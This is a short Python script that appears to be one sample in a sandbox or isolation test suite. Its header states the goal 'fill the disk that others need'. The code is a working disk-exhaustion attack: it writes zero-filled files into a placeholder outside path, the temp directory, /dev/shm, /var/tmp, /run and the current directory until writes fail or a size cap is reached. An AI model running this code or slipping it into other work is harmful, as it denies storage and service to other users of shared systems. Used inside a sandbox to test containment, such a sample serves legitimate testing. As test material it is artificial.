"""Writes zeros to every folder that lets it, until nothing goes in any more."""
# /// attack
# class = 75
# goal = "fill the disk that others need"
# gain = "effect"
# outcome = ["failed", "memory", "crashed", "timeout"]
# naive = true
# gvisor = true
# ///

import contextlib
import itertools
import os
import tempfile

MOST = 48 << 20  # in the arena; a jail is filled to its end
block = bytes(1 << 20)
written = 0
for folder in ("@OUTSIDE@", tempfile.gettempdir(), "/dev/shm", "/var/tmp", "/run", "."):
    if written:
        break
    with contextlib.suppress(OSError):
        for number in itertools.count():
            with open(f"{folder}/fill-{number}", "wb") as stream:
                for _ in range(8):
                    written += stream.write(block)
            if folder == "@OUTSIDE@" and written >= MOST:
                break
            if written >= 1 << 30:
                break


def standardise(x):
    return x
